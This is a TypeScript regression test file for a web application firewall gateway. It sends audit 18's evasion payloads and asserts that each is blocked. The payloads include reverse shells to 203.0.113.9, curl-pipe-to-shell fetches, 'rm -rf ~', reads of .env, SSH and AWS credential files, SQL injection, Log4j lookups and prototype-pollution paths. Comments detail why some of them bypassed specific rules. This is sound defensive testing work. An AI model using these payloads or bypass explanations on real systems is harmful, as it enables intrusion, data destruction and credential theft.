// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 18 (round 11 of the WAF evasion audit): commits c8c60f0 and 35fbabd's changes to the API profile (linksAsWords:
 * URLs in prose as one word; icuAsWords: ICU MessageFormat arguments as words; reachableLines with
 * unreachableInQuotes; family `s` beside inert quotes; prototypePathArgs; rules 90111 (assignment prefixes,
 * compound bodies), 90133-90137 (globs, interpreter one-liners, `$0`, netcat, compound commands, dot-file reads)).
 * Against the `waf` policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a
 * recording upstream, over HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: 403, and the upstream
 * never sees it. The techniques that got through are in the audit's report, not here. `/crs/*` (PL1) and `/crs2/*`
 * (PL2) run the plain CRS profile.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);

/** A GraphQL persisted query over GET (Apollo APQ: no document, a hash in `extensions`). */
const persisted = (
  variables: string,
  extensions = '{"persistedQuery":{"version":1,"sha256Hash":"601fd7716a35"}}',
): Buffer => get(`/graphql?operationName=Ping&variables=${E(variables)}&extensions=${E(extensions)}`);

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** A line of prose before a command on the next line (family `c` judges line starts). */
const PROSE = 'Please check the link';
/** The address a ping form expects, before the injected command. */
const IP = '127.0.0.1';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // (1) linksAsWords: a URL is one plain word unless the line's command fetches URLs.
  {
    name: 'link: whoami on the line after a prose URL',
    build: () => json('note', 'see https://x.example/a#b\nwhoami'),
  },
  {
    name: 'link: id on the line after a URL with a query',
    build: () => json('note', 'see https://example.com/x\nid'),
  },
  {
    name: 'link: GET (lwp-request) of a metadata address after a URL line',
    build: () =>
      json('note', 'see https://example.com/x?a=b\nGET http://169.254.169.254/latest/meta-data/iam'),
  },
  {
    name: 'link: GET of a loopback URL on a prose line',
    build: () => json('note', `${PROSE}\nGET http://127.0.0.1:18777/x`),
  },
  {
    name: 'link: lwp-download of a script, then sh',
    build: () => json('note', `${PROSE}\nlwp-download http://127.0.0.1:18777/x.sh\nsh x.sh`),
  },
  {
    name: 'link: wget2 of a script, then sh',
    build: () => json('note', `${PROSE}\nwget2 http://127.0.0.1:18777/x.sh\nsh x.sh`),
  },
  {
    name: 'link: lwp-download over the home .bashrc',
    build: () => json('note', `${PROSE}\nlwp-download http://127.0.0.1:18777/.bashrc`),
  },
  {
    name: 'link: mshta of a remote HTA in a host field',
    build: () => json('host', `${IP}\nmshta https://203.0.113.9/x.hta`),
  },
  {
    name: 'link: perl given a URL in a host field',
    build: () => json('host', `${IP}\nperl https://203.0.113.9/x.sh`),
  },
  {
    name: 'link: a markdown link target, then rm -rf ~',
    build: () => json('note', 'see [docs](https://example.com/a?b=c)\nrm -rf ~'),
  },
  // (2) icuAsWords: ICU arguments as words must not hide SQL around them.
  {
    name: 'ICU: a plural argument, then ; drop table',
    build: () => json('msg', '{count, plural, one {# file} other {# files}} deleted; drop table users'),
  },
  { name: "ICU: {name}' or '1'='1", build: () => json('msg', "Hello {name}' or '1'='1") },
  {
    name: 'ICU: a tautology inside a sub-message',
    build: () => json('msg', "{n, plural, one {x' or 1=1-- } other {y}}"),
  },
  {
    name: 'ICU: union select after a plural argument',
    build: () =>
      json(
        'msg',
        "You have {count, plural, one {one message} other {# messages}}' union select password from users--",
      ),
  },
  { name: "ICU: {name}' OR 1=1 --", build: () => json('q', "{name}' OR 1=1 --") },
  { name: "ICU: a placeholder then ' or '1'='1", build: () => json('q', "Hi {user}, your order' or '1'='1") },
  {
    name: 'ICU: a placeholder then a stacked drop table',
    build: () => json('q', "The {item} is ready'; DROP TABLE users; --"),
  },
  // (6) prototypePathArgs: arrays spelling a path through a prototype.
  {
    name: 'proto path: [constructor, prototype, isAdmin]',
    build: () => doc({ path: ['constructor', 'prototype', 'isAdmin'] }),
  },
  { name: 'proto path: [__proto__, isAdmin]', build: () => doc({ path: ['__proto__', 'isAdmin'] }) },
  { name: 'proto path: [a, __proto__, isAdmin]', build: () => doc({ path: ['a', '__proto__', 'isAdmin'] }) },
  {
    name: 'proto path: [a, constructor, prototype, isAdmin]',
    build: () => doc({ path: ['a', 'constructor', 'prototype', 'isAdmin'] }),
  },
  { name: 'proto path: [[__proto__], isAdmin]', build: () => doc({ path: [['__proto__'], 'isAdmin'] }) },
  {
    name: 'proto path: a nested [[__proto__], polluted]',
    build: () => doc({ a: { b: [['__proto__'], 'polluted'] } }),
  },
  {
    name: 'proto path: an object with index keys',
    build: () => doc({ p: { 0: '__proto__', 1: 'isAdmin' } }),
  },
  {
    name: 'proto path: constructor[prototype][isAdmin]',
    build: () => json('path', 'constructor[prototype][isAdmin]'),
  },
  {
    name: 'proto path: constructor/prototype/isAdmin',
    build: () => json('path', 'constructor/prototype/isAdmin'),
  },
  // (7) 90137: secrets dot-files read after a separator.
  { name: 'dot-file: tac .env', build: () => json('host', `${IP};tac .env`) },
  { name: 'dot-file: cat ./.env', build: () => json('host', `${IP};cat ./.env`) },
  { name: 'dot-file: cat ../.env', build: () => json('host', `${IP};cat ../.env`) },
  { name: 'dot-file: sed -n p .env', build: () => json('host', `${IP};sed -n p .env`) },
  { name: 'dot-file: paste .env', build: () => json('host', `${IP};paste .env`) },
  { name: 'dot-file: fold .env', build: () => json('host', `${IP};fold .env`) },
  { name: 'dot-file: diff .env /dev/null', build: () => json('host', `${IP};diff .env /dev/null`) },
  { name: 'dot-file: cat .envrc', build: () => json('host', `${IP};cat .envrc`) },
  {
    name: 'dot-file: cat config/.env.production',
    build: () => json('host', `${IP};cat config/.env.production`),
  },
  { name: 'dot-file: cat .pgpass', build: () => json('host', `${IP};cat .pgpass`) },
  { name: 'dot-file: cat .git/config', build: () => json('host', `${IP};cat .git/config`) },
  { name: 'dot-file: cat .aws/cred*', build: () => json('host', `${IP};cat .aws/cred*`) },
  { name: 'dot-file: cat .ssh/id_*', build: () => json('host', `${IP};cat .ssh/id_*`) },
  // (7) 90111 assignment prefixes and 90135 `$0`, one-liners, netcat.
  { name: '90111: two assignments then id on a new line', build: () => json('host', `${IP}\nx=1 y=2 id`) },
  {
    name: '90111: five assignments then whoami',
    build: () => json('host', `${IP};x=1 y=2 z=3 a=4 b=5 whoami`),
  },
  { name: 'x=$(id)', build: () => json('host', `${IP};x=$(id)`) },
  { name: '$0: ;$0 -c id', build: () => json('host', `${IP};$0 -c id`) },
  { name: '$0: ;${0} -c id', build: () => json('host', `${IP};\${0} -c id`) },
  { name: '$0: echo id|$0', build: () => json('host', `${IP};echo id|$0`) },
  { name: '$0: on a line after prose', build: () => json('note', 'a\n$0 -c id') },
  {
    name: 'one-liner: python3 -c os.system',
    build: () => json('cmd', `python3 -c 'import os;os.system("id")'`),
  },
  {
    name: 'one-liner: python3 -c __import__',
    build: () => json('cmd', `python3 -c "__import__('os').system('id')"`),
  },
  { name: 'one-liner: perl -e system', build: () => json('cmd', `perl -e 'system("id")'`) },
  { name: 'one-liner: perl -e backticks', build: () => json('cmd', "perl -e '`id`'") },
  {
    name: 'one-liner: node -e child_process',
    build: () => json('cmd', `node -e 'require("child_process").execSync("id")'`),
  },
  { name: 'one-liner: php -r passthru', build: () => json('cmd', `php -r 'passthru("id");'`) },
  { name: 'pwsh -Command whoami', build: () => json('cmd', 'pwsh -Command whoami') },
  { name: 'pwsh -noprofile -c whoami', build: () => json('cmd', 'pwsh -noprofile -c whoami') },
  {
    name: 'powershell -encodedcommand',
    build: () => json('cmd', 'powershell -nop -w hidden -encodedcommand SQBFAFgA'),
  },
  { name: 'ncat --exec /bin/sh', build: () => json('host', `${IP};ncat 203.0.113.9 4444 --exec /bin/sh`) },
  { name: 'nc -e/bin/sh glued', build: () => json('host', `${IP};nc 203.0.113.9 4444 -e/bin/sh`) },
  { name: 'socat exec:sh', build: () => json('host', `${IP};socat tcp:203.0.113.9:4444 exec:sh`) },
  { name: 'busybox nc -e sh', build: () => json('host', `${IP};busybox nc 203.0.113.9 4444 -e sh`) },
  // (7) 90136 compound commands.
  { name: 'compound: if true; then id; fi on one line', build: () => json('note', 'if true; then id; fi') },
  { name: 'compound: until false; do id; done', build: () => json('note', 'until false; do id; done') },
  {
    name: 'compound: while read / do / id / done',
    build: () => json('host', `${IP}\nwhile read x\ndo\nid\ndone`),
  },
  { name: 'compound: for x in 1; do id; done', build: () => json('host', `${IP}\nfor x in 1; do id; done`) },
  {
    name: 'compound: select x in 1; do id; done',
    build: () => json('host', `${IP}\nselect x in 1; do id; done`),
  },
  { name: 'compound: if id / then : / fi', build: () => json('host', `${IP}\nif id\nthen :\nfi`) },
  { name: 'compound: if whoami; then :; fi', build: () => json('host', `${IP}\nif whoami; then :; fi`) },
  {
    name: 'compound: case `id` in *) ;; esac',
    build: () => json('host', `${IP}\ncase \`id\` in *) ;; esac`),
  },
  { name: 'group: { rm -rf ~; } on a new line', build: () => json('host', `${IP}\n{ rm -rf ~; }`) },
  {
    name: 'fetch and run after an assignment',
    build: () => json('host', `${IP};x=1 curl -s 203.0.113.9/x.sh|sh`),
  },
  { name: 'fetch and run after !', build: () => json('host', `${IP};! curl -s 203.0.113.9/x.sh|sh`) },
  // (8) persisted GraphQL GET queries and the filter grammar's negation.
  { name: 'persisted query: $0 -c id in a variable', build: () => persisted(J({ host: `${IP};$0 -c id` })) },
  { name: 'persisted query: tac .env in a variable', build: () => persisted(J({ host: `${IP};tac .env` })) },
  {
    name: 'persisted query: P || !(P) filter tautology',
    build: () => persisted(J({ filter: 'owner_id = 7 || !(owner_id = 7)' })),
  },
  {
    name: 'Log4j: ${jndi:ldap://…} in a placeholder field',
    build: () => json('msg', 'Hi ${jndi:ldap://203.0.113.9/a}'),
  },
  {
    name: 'Log4j: ${${lower:j}ndi:…} nested lookup',
    build: () => json('msg', 'Hi ${${lower:j}ndi:ldap://203.0.113.9/a}'),
  },
  // (7) 90133 globs.
  { name: 'glob: ;/b??/i?', build: () => json('host', `${IP};/b??/i?`) },
  { name: 'glob: ;/usr/b*/i[d]', build: () => json('host', `${IP};/usr/b*/i[d]`) },
  { name: 'glob: cd /bin; ./i?', build: () => json('host', `${IP};cd /bin;./i?`) },
];

function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
// Audit 18's bypasses, each confirmed against dash/bash, Node or sqlite3 at the time (200, the upstream received
// it), closed the same session: refused now. Two that plain CRS lets through at PL1 and PL2 as well are not here
// (docs/security.md): `start https://…/x.hta` on a line of prose (it opens the URL in the default browser), and
// `trashed or not trashed` as a filter (a tautology of plain words no rule can tell from prose; RE2 has no
// back-references).
// Audit 18's bypasses of the API profile (route `/*`, CRS v4.28.0 PL1 blocking), each answered 200 by the gateway
// and received by the upstream. Same shapes as test/integration/audit18-waf-evasion.test.ts (json, doc, IP, PROSE,
// J, E, Case, H2_POST). Constants used below: IP = '127.0.0.1', PROSE = 'Please check the link'.
// "Confirmed" means: the value interpolated into `sh -c "ping -c 1 $host"` (simulated as `echo ping -c 1 $v`) in a
// throwaway directory with a fake $HOME, under dash 0.5 and bash 5; a local http.server on 127.0.0.1:18777 served
// `touch PWNED; echo PAYLOAD_RAN`.

const BYPASS_CASES: readonly Case[] = [
  // B1 (RCE, most serious). INTERPRETER_ONE_LINER (rule 90135, rules.ts) wants `$0`/`${0}` bare right after a
  // separator; a double-quoted "$0" (same expansion to a shell) is not matched, and the command it runs sits inside
  // a quoted -c argument where CRS PL1's 932xxx command rules find no command position. CRS PL1 passes it too; PL2
  // refuses. Confirmed: dash and bash fetched and ran the script (PWNED created, PAYLOAD_RAN printed);
  // `"$0" -c "rm -rf ~"` deleted the fake $HOME.
  {
    name: 'B1 ;"$0" -c "curl -s …|sh" (a quoted $0 re-runs the shell; 90135 only knows a bare $0)',
    build: () => json('host', `${IP};"$0" -c "curl -s 203.0.113.9/x.sh|sh"`),
  },
  { name: 'B1b ;"$0" -c "rm -rf ~"', build: () => json('host', `${IP};"$0" -c 'rm -rf ~'`) },
  {
    name: 'B1c a file name field: report.pdf;"$0" -c "curl …|sh"',
    build: () => json('name', 'report.pdf;"$0" -c "curl -s 203.0.113.9/x.sh|sh"'),
  },
  { name: 'B1d ;"$0" -c id (probe)', build: () => json('host', `${IP};"$0" -c id`) },
  // bash only (here-string): `$0<<<id` runs id (dash: syntax error). 90135 wants whitespace and an option after $0.
  { name: 'B1e ;$0<<<id (bash here-string to the shell itself)', build: () => json('host', `${IP};$0<<<id`) },

  // B2 (destruction of $HOME). `rm -rf` after a negation `!` or an assignment prefix (`x= `, `x=1 `): the profile's
  // rm rule (the `[;|&\`]\s*rm\s+-[a-z]*[rf]` addition to the SUBSTITUTION rule) wants rm right after the separator,
  // 90111's assignment prefixes were added for probes only, and commandOnlyAtStart (family c) checks
  // SEPARATED_REFUSED on a line's FIRST token only (`!` is skipped only for the probe/launcher check), so a prose
  // line then `! rm -rf ~` is granted family c (932xxx waived). CRS PL1 passes all of these; PL2 refuses.
  // Confirmed: dash and bash deleted the fake $HOME for every shape below.
  { name: 'B2 ;! rm -rf ~ (negation before rm)', build: () => json('host', `${IP};! rm -rf ~`) },
  { name: 'B2b ⏎! rm -rf ~', build: () => json('host', `${IP}\n! rm -rf ~`) },
  { name: 'B2c ;!rm -rf ~ (glued negation)', build: () => json('host', `${IP};!rm -rf ~`) },
  { name: 'B2d ;x= rm -rf ~ (empty assignment before rm)', build: () => json('host', `${IP};x= rm -rf ~`) },
  { name: 'B2e ;x=1 rm -rf ~', build: () => json('host', `${IP};x=1 rm -rf ~`) },
  { name: 'B2f && ! rm -rf ~', build: () => json('host', `${IP} && ! rm -rf ~`) },
  { name: 'B2g ;! x= rm -rf ~', build: () => json('host', `${IP};! x= rm -rf ~`) },
  {
    name: 'B2h prose line, then ! rm -rf ~ (family c: SEPARATED_REFUSED sees only the `!`)',
    build: () => json('note', 'Build failed at step two\n! rm -rf ~'),
  },
  {
    name: 'B2i prose line, then x= rm -rf ~ (family c: `x=` is a word, rm not the first token)',
    build: () => json('note', 'Build failed at step two\nx= rm -rf ~'),
  },
  {
    name: 'B2j a file name field: report.pdf;! rm -rf ~',
    build: () => json('name', 'report.pdf;! rm -rf ~'),
  },

  // B3 (secrets disclosure). DOTFILE_READ (rule 90137) wants a listed reader, whitespace, then the literal dot-file
  // name: a glob in the name, a `<` redirection, a reader not in its list (rev, cut), or `!` / `{` before the reader
  // all evade it. CRS PL1 passes all (930120 lists system files only); PL2 refuses. Confirmed: dash and bash printed
  // the fake .env (`rev` reversed), ~/.aws/credentials and .git/config.
  { name: 'B3 ;cat .en? (glob in the dot-file name)', build: () => json('host', `${IP};cat .en?`) },
  { name: 'B3b ;cat .e*', build: () => json('host', `${IP};cat .e*`) },
  { name: 'B3c ;cat .en[v]', build: () => json('host', `${IP};cat .en[v]`) },
  { name: 'B3d ;cat<.env (redirection, no space)', build: () => json('host', `${IP};cat<.env`) },
  { name: 'B3e ;rev .env (reader not listed)', build: () => json('host', `${IP};rev .env`) },
  { name: 'B3f &&cut -c1- .env (reader not listed)', build: () => json('host', `${IP}&&cut -c1- .env`) },
  { name: 'B3g ;! cat .env (negation before the reader)', build: () => json('host', `${IP};! cat .env`) },
  { name: 'B3h ;{ cat .env; } (brace group)', build: () => json('host', `${IP};{ cat .env; }`) },
  { name: 'B3i ;x= cut -c1- .env', build: () => json('host', `${IP};x= cut -c1- .env`) },
  { name: 'B3j ;cat ~/.a?s/credentials', build: () => json('host', `${IP};cat ~/.a?s/credentials`) },
  { name: 'B3k ;cat .g?t/config', build: () => json('host', `${IP};cat .g?t/config`) },

  // B4 (prototype pollution; CRS PL1 and PL2 pass it too). prototypePathArgs (expand.ts) joins only consecutive
  // STRING elements `<array>.<n>`; an element that is a one-string array (`["constructor"]`) flattens to
  // `path.0.0` and breaks the run, yet JavaScript coerces `["constructor"]` to the key "constructor". Confirmed in
  // Node 24: a naive `set(obj, path, v)` (`t = t[k] ??= {}` per key) set Object.prototype.isAdmin = true for both.
  {
    name: 'B4 path [["constructor"],["prototype"],"isAdmin"] (array elements coerce to keys)',
    build: () => doc({ path: [['constructor'], ['prototype'], 'isAdmin'] }),
  },
  {
    name: 'B4b path ["constructor",["prototype"],"isAdmin"]',
    build: () => doc({ path: ['constructor', ['prototype'], 'isAdmin'] }),
  },

  // B5 (identity probes; each also passes CRS PL2). 90111 knows probes after separators and up to 4 assignments;
  // a brace group, a negation on its own line, or a fifth assignment hides the probe. Confirmed: dash and bash
  // printed uid=0(root).
  { name: 'B5 ;{ id; } (brace group)', build: () => json('host', `${IP};{ id; }`) },
  { name: 'B5b ⏎! id', build: () => json('host', `${IP}\n! id`) },
  {
    name: 'B5c ;x=1 y=2 z=3 a=4 b=5 id (five assignments, 90111 allows four)',
    build: () => json('host', `${IP};x=1 y=2 z=3 a=4 b=5 id`),
  },

  // B6 (Windows RCE, NOT confirmed: no Windows host). linksAsWords (view.ts) turns the URL into a markdown link,
  // a plain argument because mshta/start are not in NETWORK_TOOLS; the prose `&` is a PROSE_SEMICOLON line start,
  // so commandOnlyAtStart grants family c and CRS's windows command rules (932xxx, which refuse mshta at PL1) are
  // waived. `cmd /c "ping -n 1 <value>"` would run `mshta https://…/x.hta` (an HTA runs VBScript/JScript).
  // `start https://…` also passes CRS PL1.
  {
    name: 'B6 prose & mshta https://…/x.hta (URL judged as a word; mshta no network tool)',
    build: () => json('note', `${PROSE} & mshta https://203.0.113.9/x.hta`),
  },
  {
    name: 'B6b prose ⏎ mshta https://…/x.hta',
    build: () => json('note', `${PROSE}\nmshta https://203.0.113.9/x.hta`),
  },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'dot-file: tac .env', headers: H2_POST, body: J({ host: `${IP};tac .env` }) },
  { name: '$0 -c id', headers: H2_POST, body: J({ host: `${IP};$0 -c id` }) },
  { name: 'proto path array', headers: H2_POST, body: J({ path: ['constructor', 'prototype', 'isAdmin'] }) },
  { name: 'ICU placeholder then OR 1=1', headers: H2_POST, body: J({ q: "{name}' OR 1=1 --" }) },
  { name: 'compound for/do/done', headers: H2_POST, body: J({ host: `${IP}\nfor x in 1; do id; done` }) },
  {
    name: 'query parameter: $0 -c id',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E(`${IP};$0 -c id`)}` },
  },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'B1 over h2', headers: H2_POST, body: J({ host: `${IP};"$0" -c "curl -s 203.0.113.9/x.sh|sh"` }) },
  { name: 'B2 over h2', headers: H2_POST, body: J({ host: `${IP};! rm -rf ~` }) },
  { name: 'B3 over h2', headers: H2_POST, body: J({ host: `${IP};cat .en?` }) },
  { name: 'B4 over h2', headers: H2_POST, body: J({ path: [['constructor'], ['prototype'], 'isAdmin'] }) },
  {
    name: 'B2 over h2 (query parameter)',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E(`${IP};x= rm -rf ~`)}` },
  },
];

describe(
  'audit18: WAF evasions of commits c8c60f0 and 35fbabd (URLs as words, ICU arguments, prototype paths, dot-file reads, $0 and one-liners, compound commands, globs) the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit18-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('note', 'the link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken'),
        json('msg', 'You have {count, plural, one {# new message} other {# new messages}} from {name}'),
        json(
          'note',
          'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\nKeyError: id',
        ),
        doc({ path: ['profile', 'settings', 'theme'] }),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
